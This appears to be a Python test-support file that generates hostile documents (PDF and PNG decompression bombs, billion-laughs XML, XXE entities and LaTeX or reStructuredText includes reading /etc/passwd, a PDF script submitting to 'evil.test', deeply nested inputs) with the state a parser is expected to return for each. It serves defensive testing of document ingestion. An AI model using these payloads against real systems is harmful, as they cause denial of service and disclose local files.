"""Files made to harm whoever opens them, each with what must become of it."""

import io
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

from tests.support.pdf_files import Sheet, Text, assemble, pdf

MEGABYTE = 1_000_000


@dataclass(frozen=True)
class Hostile:
    what: str
    name: str
    content: bytes
    state: str | None
    """How it is refused; ``None`` where it is read and only what harms is left out."""


def hostile_files() -> Iterator[Hostile]:
    yield Hostile("a PDF stream that unpacks to 1 GB", "stream.pdf", _pdf_bomb(1000), "failed")
    operators = Sheet([Text(72, 700, "Start of it")], more=b"BT /F1 9 Tf 72 600 Td (x y) Tj ET\n" * 900_000)
    yield Hostile("30 MB of text operators in 70 KB", "operators.pdf", pdf([operators]), None)
    yield Hostile("100,000 pages", "pages.pdf", _many_pages(100_000), "too_large")
    yield Hostile("pages in a circle", "circle.pdf", _cyclic(), "no_text")
    wide = Sheet([Text(72, 700, "Words on a wide page")], size=(2_000_000.0, 800.0))
    yield Hostile("a page 2,000,000 points wide", "wide.pdf", pdf([wide]), None)
    key = "<" + "5a" * 32 + ">"
    trailer = f"/Encrypt << /Filter /Standard /V 1 /R 2 /O {key} /U {key} /P -4 >> /ID [<00> <00>]"
    locked = pdf([Sheet([Text(72, 700, "Locked words")])], trailer=trailer)
    yield Hostile("a PDF with a password", "locked.pdf", locked, "encrypted")
    action = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.test'\\)) >>"
    script = pdf([Sheet([Text(72, 700, "Words beside a script")])], catalog=action)
    yield Hostile("a PDF with a script that runs when it opens", "script.pdf", script, None)
    yield Hostile("half a PDF", "half.pdf", pdf([Sheet([Text(72, 700, "Whole")])])[:400], "failed")
    words = docx(paragraph("All the same words again.") * 900_000)
    yield Hostile("a Word document that unpacks to 300 times its size", "bomb.docx", words, "too_large")
    laughing = docx(paragraph("&l9;"), before=_LAUGHS)
    yield Hostile("entities that multiply", "laughs.docx", laughing, "failed")
    yield Hostile("an entity that names a file", "entity.epub", epub(_CHAPTER, before=_ENTITY), None)
    yield Hostile(
        "a locked Word document", "locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "encrypted"
    )
    yield Hostile("200,000 elements in one another", "deep.html", b"<div>" * 200_000 + b"<p>deep</p>", "no_text")
    yield Hostile("a program that is called a text", "program.txt", b"\x7fELF\x02\x01\x01" + bytes(64), "failed")
    yield Hostile("a web page that is called a PDF", "page.pdf", b"<html><p>Hello</p></html>", "failed")
    yield Hostile("a table of 200,001 rows", "rows.csv", b"a,b\n" * 200_001, "too_large")
    yield Hostile("a list in a list, 500 times", "deep.md", b"".join(b"  " * n + b"- x\n" for n in range(500)), None)
    yield Hostile("a message of 10,000 parts in one another", "deep.eml", _deep_mail(), "failed")
    yield Hostile("10,001 messages", "many.mbox", b"From a Mon\nSubject: Bread\n\nFlour.\n\n" * 10_001, None)
    yield Hostile("entities that multiply in XML", "laughs.xml", f"{_LAUGHS}<w><a>&l9;</a></w>".encode(), "failed")
    yield Hostile("elements in one another", "deep.xml", b"<a>" * 100_000, "failed")
    yield Hostile("lists in one another, 100,000 times", "deep.json", b"[" * 100_000 + b"]" * 100_000, "failed")
    yield Hostile("an rst that includes a file and raw HTML", "raw.rst", _RST, None)
    yield Hostile("a million braces", "braces.tex", b"{" * 1_000_000, "failed")
    yield Hostile("a LaTeX text that includes a file", "input.tex", b"Words of it.\n\\input{/etc/passwd}\n", None)
    yield Hostile("a picture of 40,000 x 40,000 pixels", "wide.png", _picture_bomb(), "too_large")
    yield Hostile("half a picture", "half.png", _picture_bomb()[:40], "failed")
    yield Hostile("a notebook that is a list", "list.ipynb", b"[1, 2, 3]", "failed")


_RST = b"Words.\n\n.. include:: /etc/passwd\n\n.. raw:: html\n\n   <script>alert(1)</script>\n\n.. csv-table:: x\n   :file: /etc/passwd\n"
_LAUGHS = '<!DOCTYPE w [<!ENTITY l0 "ha">{}]>'.format(
    "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
)
_CHAPTER = "<html><body><h1>One</h1><p>A chapter &stolen; of words.</p></body></html>"
_ENTITY = '<!DOCTYPE package [<!ENTITY stolen SYSTEM "file:///etc/passwd">]>'


def _pdf_bomb(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    first = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)  # the same each time from here on
    packed = first + again * (megabytes - 1) + packer.flush()
    return _with_content(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream")


def _with_content(stream: bytes) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>"
    tree = b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>"
    return assemble({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: tree, 3: b"<< >>", 4: page, 5: stream})


def _many_pages(count: int) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
    tree = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, b"4 0 R " * count)
    return assemble({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: tree, 3: b"<< >>", 4: page})


def _cyclic() -> bytes:
    tree = b"<< /Type /Pages /Count 3 /Kids [4 0 R] >>"
    inner = b"<< /Type /Pages /Parent 2 0 R /Count 3 /Kids [2 0 R] >>"
    return assemble({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: tree, 3: b"<< >>", 4: inner})


def packed(entries: Mapping[str, str | bytes]) -> bytes:
    """Write a zip."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return output.getvalue()


_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONSHIPS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_RELATION = '<Relationship Id="{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}.xml"/>'
_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(body: str, *, before: str = "", parts: dict[str, str] | None = None) -> bytes:
    """Write a Word document.

    Args:
        body: what stands inside ``w:body``.
        before: what stands between the first line of the XML and its root.
        parts: the root element of further parts by their kind, such as ``comments``, which is also the relation's id.
    """
    others = parts or {}
    entries = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": RELATIONSHIPS.format(_RELATION.format("r1", "officeDocument", "word/document")),
        "word/document.xml": f'<?xml version="1.0"?>{before}<w:document {_WORD}><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": RELATIONSHIPS.format("".join(_RELATION.format(*[kind] * 3) for kind in others)),
    }
    return packed(entries | {f"word/{kind}.xml": xml.replace(">", f" {_WORD}>", 1) for kind, xml in others.items()})


def paragraph(text: str, style: str = "") -> str:
    """One paragraph of a Word document."""
    properties = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{properties}<w:r><w:t xml:space='preserve'>{text}</w:t></w:r></w:p>"


def _deep_mail() -> bytes:
    parts = (b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(10_000))
    return b"From: a@example.org\n" + b"".join(parts) + b"\nWords."


def _picture_bomb() -> bytes:
    head = b"IHDR" + (40_000).to_bytes(4) * 2 + b"\x08\0\0\0\0"
    return b"\x89PNG\r\n\x1a\n\0\0\0\r" + head + zlib.crc32(head).to_bytes(4) + b"\0\0\0\0IDAT" + b"\0" * 64


def epub(*chapters: str, title: str = "A book", before: str = "") -> bytes:
    """Write a book; ``before`` stands between the first line and the root of its list of chapters."""
    items = "".join(
        f'<item id="c{n}" href="text/c%20{n}.xhtml" media-type="application/xhtml+xml"/>' for n in range(len(chapters))
    )
    spine = "".join(f'<itemref idref="c{n}"/>' for n in range(len(chapters)))
    package = (
        f'<?xml version="1.0"?>{before}<package xmlns="http://www.idpf.org/2007/opf"><metadata '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{title}</dc:title></metadata>'
        f"<manifest>{items}</manifest><spine>{spine}</spine></package>"
    )
    container = (
        '<?xml version="1.0"?><container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="OEBPS/book.opf"/></rootfiles></container>'
    )
    entries: dict[str, str | bytes] = {"mimetype": "application/epub+zip", "META-INF/container.xml": container}
    entries["OEBPS/book.opf"] = package
    entries |= {f"OEBPS/text/c {n}.xhtml": chapter for n, chapter in enumerate(chapters)}
    return packed(entries)
